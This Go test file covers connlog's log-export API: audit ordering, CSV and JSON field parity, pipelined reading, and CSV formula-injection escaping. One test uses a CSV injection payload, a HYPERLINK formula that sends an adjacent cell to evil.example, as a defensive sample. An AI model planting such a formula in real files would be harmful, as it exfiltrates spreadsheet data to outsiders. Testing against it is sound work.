package api

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/connlog/connlog/store"
)

// getAccept is testEnv.get with an Accept header.
func (e *testEnv) getAccept(tb testing.TB, target, token, accept string) *http.Response {
	tb.Helper()
	req := httptest.NewRequestWithContext(tb.Context(), http.MethodGet, target, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("X-Purpose", "INC-42")
	req.Header.Set("Accept", accept)
	rec := httptest.NewRecorder()
	e.srv.Handler().ServeHTTP(&orderWriter{ResponseWriter: rec, store: e.store}, req)
	return rec.Result()
}

func TestExportAuditOrderAndFailures(t *testing.T) {
	hits := []store.Hit{{ClientIP: netip.MustParseAddr("203.0.113.7"), Path: "/secret"}}

	// The first audit row precedes the first byte; the second follows the
	// last.
	env := newTestEnv(t, &fakeStore{hits: hits})
	resp := env.getAccept(t, okQuery, env.tokens.analyst, "text/csv")
	body := readBody(t, resp)
	if resp.StatusCode != 200 || !strings.Contains(body, "/secret") || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("status %d %q", resp.StatusCode, body)
	}
	if got := env.store.events; !reflect.DeepEqual(got, []string{"audit", "write", "audit"}) {
		t.Errorf("events %q, want audit, write, audit", got)
	}

	// No audit row, no data.
	env = newTestEnv(t, &fakeStore{hits: hits, auditErr: errors.New("disk full")})
	resp = env.getAccept(t, okQuery, env.tokens.analyst, "application/x-ndjson")
	if body := readBody(t, resp); resp.StatusCode != 503 || strings.Contains(body, "/secret") || errorCode(t, body) != CodeAuditUnavailable {
		t.Errorf("audit down: status %d %q", resp.StatusCode, body)
	}

	// A store failure before the first row is a JSON error, and the second
	// audit row says the export was interrupted.
	env = newTestEnv(t, &fakeStore{searchErr: errors.New("connection refused")})
	resp = env.getAccept(t, okQuery, env.tokens.analyst, "text/csv")
	if body := readBody(t, resp); resp.StatusCode != 503 || errorCode(t, body) != CodeUnavailable {
		t.Errorf("store down: status %d %q", resp.StatusCode, body)
	}
	a := env.store.auditRows()
	if len(a) != 2 || a[1].Outcome != outcomeInterrupted || a[1].Status != 503 || !strings.Contains(a[1].Reason, "connection refused") {
		t.Errorf("audit rows %+v", a)
	}
}

// TestCSVCarriesEveryFieldOfTheJSONRow: an export is the same evidence in
// either format. The access log's CSV once lacked client_text and
// raw_request, so a request that was not HTTP exported as an empty one.
func TestCSVCarriesEveryFieldOfTheJSONRow(t *testing.T) {
	for _, tc := range []struct {
		row    any
		header []string
		record func(row any) []string
	}{
		{accessRow{}, accessHeader, func(row any) []string { return row.(*accessRow).csvRecord(nil) }},
		{connectionRow{}, connectionHeader, func(row any) []string { return row.(*connectionRow).csvRecord(nil) }},
	} {
		typ := reflect.TypeOf(tc.row)
		var tags []string
		for f := range typ.Fields() {
			tags = append(tags, strings.Split(f.Tag.Get("json"), ",")[0])
		}
		got := append([]string(nil), tc.header...)
		slices.Sort(got)
		slices.Sort(tags)
		if !slices.Equal(got, tags) {
			t.Errorf("%s: CSV header %v, JSON fields %v", typ.Name(), got, tags)
		}
		// Each column holds its own field: filled with distinct values,
		// cell i is the value of the field named by header i.
		row := reflect.New(typ)
		fillDistinct(row.Interface())
		want := map[string]string{}
		for i := range typ.NumField() {
			want[strings.Split(typ.Field(i).Tag.Get("json"), ",")[0]] = fmt.Sprint(row.Elem().Field(i).Interface())
		}
		rec := tc.record(row.Interface())
		if len(rec) != len(tc.header) {
			t.Fatalf("%s: %d cells for %d columns", typ.Name(), len(rec), len(tc.header))
		}
		for i, v := range rec {
			if v != want[tc.header[i]] {
				t.Errorf("%s: column %s holds %q, want %q", typ.Name(), tc.header[i], v, want[tc.header[i]])
			}
		}
	}
}

// fillDistinct sets every field of the struct p points to to a value no
// other field has: strings their field name, numbers their index+1.
func fillDistinct(p any) {
	v := reflect.ValueOf(p).Elem()
	for i := range v.NumField() {
		f := v.Field(i)
		switch f.Kind() {
		case reflect.String:
			f.SetString(v.Type().Field(i).Name)
		case reflect.Int32, reflect.Int64:
			f.SetInt(int64(i + 1))
		case reflect.Uint16, reflect.Uint64:
			f.SetUint(uint64(i + 1))
		}
	}
}

// TestPipelinedKeepsOrderErrorsAndBounds: the export's reader goroutine
// changes nothing a client can see: every row in order, fn's error as is
// (and the reader stopped soon after), the reader's error after the rows
// before it.
func TestPipelinedKeepsOrderErrorsAndBounds(t *testing.T) {
	errRead := errors.New("read failed")
	for _, tc := range []struct {
		name      string
		rows      int   // rows the reader has
		readErr   error // the reader fails after its rows
		stopAt    int   // fn fails at this row (-1: never)
		wantSeen  int
		wantError error
	}{
		{"whole", 1000, nil, -1, 1000, nil},
		{"empty", 0, nil, -1, 0, nil},
		{"one chunk exactly", chunkRows, nil, -1, chunkRows, nil},
		{"fn stops", 100_000, nil, 300, 301, errStop},
		{"reader fails", 600, errRead, -1, 600, errRead},
	} {
		t.Run(tc.name, func(t *testing.T) {
			produced := 0
			each := func(ctx context.Context, fn func(*int) error) error {
				for i := range tc.rows {
					produced++
					v := i
					if err := fn(&v); err != nil {
						return err
					}
				}
				return tc.readErr
			}
			seen := 0
			err := pipelined(t.Context(), each, func(v *int) error {
				if *v != seen {
					t.Fatalf("row %d arrived as row %d", *v, seen)
				}
				seen++
				if *v == tc.stopAt {
					return errStop
				}
				return nil
			})
			if !errors.Is(err, tc.wantError) || (tc.wantError == nil && err != nil) {
				t.Fatalf("pipelined = %v, want %v", err, tc.wantError)
			}
			if seen != tc.wantSeen {
				t.Errorf("fn saw %d rows, want %d", seen, tc.wantSeen)
			}
			// The reader runs at most the chunks in flight ahead of fn.
			if tc.stopAt >= 0 && produced > tc.stopAt+1+4*chunkRows {
				t.Errorf("the reader went on to row %d after fn stopped at %d", produced, tc.stopAt)
			}
		})
	}
}

// TestCSVCellsNeverRunAsFormulas: a User-Agent or a user name is whatever
// the client sent; in a spreadsheet "=HYPERLINK(...)" would send the
// neighbouring cells away. The CSV cell carries one "'" in front, the
// NDJSON the value as stored.
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	const ua = `=HYPERLINK("https://evil.example/?"&B2,"x")`
	hits := []store.Hit{{ClientIP: netip.MustParseAddr("203.0.113.7"), Path: "/a", UserAgent: ua, User: "@admin", Referer: "'quoted"}}
	env := newTestEnv(t, &fakeStore{hits: hits})
	body := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "text/csv"))
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("CSV %q: %v", body, err)
	}
	cell := map[string]string{}
	for i, name := range recs[0] {
		cell[name] = recs[1][i]
	}
	for col, want := range map[string]string{"user_agent": "'" + ua, "user": "'@admin", "referer": "''quoted", "path": "/a", "client_ip": "203.0.113.7"} {
		if cell[col] != want {
			t.Errorf("CSV %s = %q, want %q", col, cell[col], want)
		}
	}
	nd := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "application/x-ndjson"))
	var row map[string]any
	if err := json.Unmarshal([]byte(nd), &row); err != nil || row["user_agent"] != ua || row["user"] != "@admin" {
		t.Errorf("NDJSON %q: %v", nd, err)
	}
}

// TestPipelinedTimeoutEndsInAnErrorWithoutARowTwice: the export's deadline
// passing while the reader waits for a free chunk is an error (the export
// was cut, never passed as whole), and no chunk reaches fn twice.
func TestPipelinedTimeoutEndsInAnErrorWithoutARowTwice(t *testing.T) {
	for range 50 {
		ctx, cancel := context.WithCancel(t.Context())
		each := func(ctx context.Context, fn func(*int) error) error {
			for i := range 100_000 {
				v := i
				if err := fn(&v); err != nil {
					return err
				}
			}
			return nil
		}
		seen := 0
		err := pipelined(ctx, each, func(v *int) error {
			if *v != seen {
				t.Fatalf("row %d arrived as row %d", *v, seen)
			}
			seen++
			if seen == 3*chunkRows+7 {
				cancel() // the deadline passes while the reader is ahead
			}
			return nil
		})
		cancel()
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("pipelined = %v after %d rows, want the context's error", err, seen)
		}
	}
}
